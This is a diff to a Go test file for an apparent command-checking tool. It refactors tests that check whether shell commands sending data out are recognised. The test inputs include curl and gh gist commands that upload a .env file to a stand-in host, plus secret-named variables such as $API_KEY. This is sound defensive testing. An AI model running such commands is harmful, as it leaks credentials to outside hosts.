@@ -5,6 +5,9 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/sluice-project/sluice/policy/follow"
+	"github.com/sluice-project/sluice/policy/invocation"
 )
 
 func TestAddressesBeyondTheLimitAreNamed(t *testing.T) {
@@ -16,15 +19,15 @@ func TestAddressesBeyondTheLimitAreNamed(t *testing.T) {
 		return b.String()
 	}
 	for _, program := range []string{"curl", "wget"} {
-		if r := Read(program+urls(mostAddresses), Setting{}); slices.Contains(r.Unknown, Many) {
+		if r := Read(program+urls(follow.MostAddresses), invocation.Setting{}); slices.Contains(r.Unknown, invocation.Many) {
 			t.Errorf("%s: as many addresses as are looked at are in doubt", program)
 		}
-		if r := Read(program+urls(mostAddresses+1), Setting{}); !slices.Contains(r.Unknown, Many) {
+		if r := Read(program+urls(follow.MostAddresses+1), invocation.Setting{}); !slices.Contains(r.Unknown, invocation.Many) {
 			t.Errorf("%s: one address more is not in doubt", program)
 		}
 	}
-	parts := strings.Repeat("a.example --next ", mostAddresses)
-	if r := Read("curl "+parts+"b.example", Setting{}); !slices.Contains(r.Unknown, Many) {
+	parts := strings.Repeat("a.example --next ", follow.MostAddresses)
+	if r := Read("curl "+parts+"b.example", invocation.Setting{}); !slices.Contains(r.Unknown, invocation.Many) {
 		t.Error("curl: one part more is not in doubt")
 	}
 }
@@ -32,14 +35,14 @@ func TestAddressesBeyondTheLimitAreNamed(t *testing.T) {
 // Files that nobody minds do not hide the one behind them.
 func TestEveryFileThatIsSentIsNamed(t *testing.T) {
 	var b strings.Builder
-	for i := range mostSources + 8 {
+	for i := range invocation.MostSources + 8 {
 		fmt.Fprintf(&b, " -F a=@%d.txt", i)
 	}
 	for _, command := range []string{
 		"curl" + b.String() + " -F k=@.env https://x.example",
 		"gh gist create " + strings.ReplaceAll(b.String(), " -F a=@", " ") + " .env",
 	} {
-		sends := said(Read(command, Setting{}))
+		sends := said(Read(command, invocation.Setting{}))
 		if !slices.ContainsFunc(sends, func(s string) bool { return strings.HasPrefix(s, "send ") && strings.HasSuffix(s, "from .env") }) {
 			t.Errorf("%.40s...: %d effects, none sends .env", command, len(sends))
 		}
@@ -51,7 +54,7 @@ func TestVariablesThatHoldSecrets(t *testing.T) {
 		"$API_KEY": "$API_KEY", "${MY_TOKEN}x": "$MY_TOKEN", "a$DB_PASSWORD-$X_SECRET": "$DB_PASSWORD $X_SECRET",
 		"$HOME/$VERSION": "", "TOKEN": "", "$": "", "$(cat x)": "", "": "",
 	} {
-		if got := strings.Join(secretVariables(text), " "); got != want {
+		if got := strings.Join(invocation.SecretVariables(text), " "); got != want {
 			t.Errorf("%q holds %q, want %q", text, got, want)
 		}
 	}
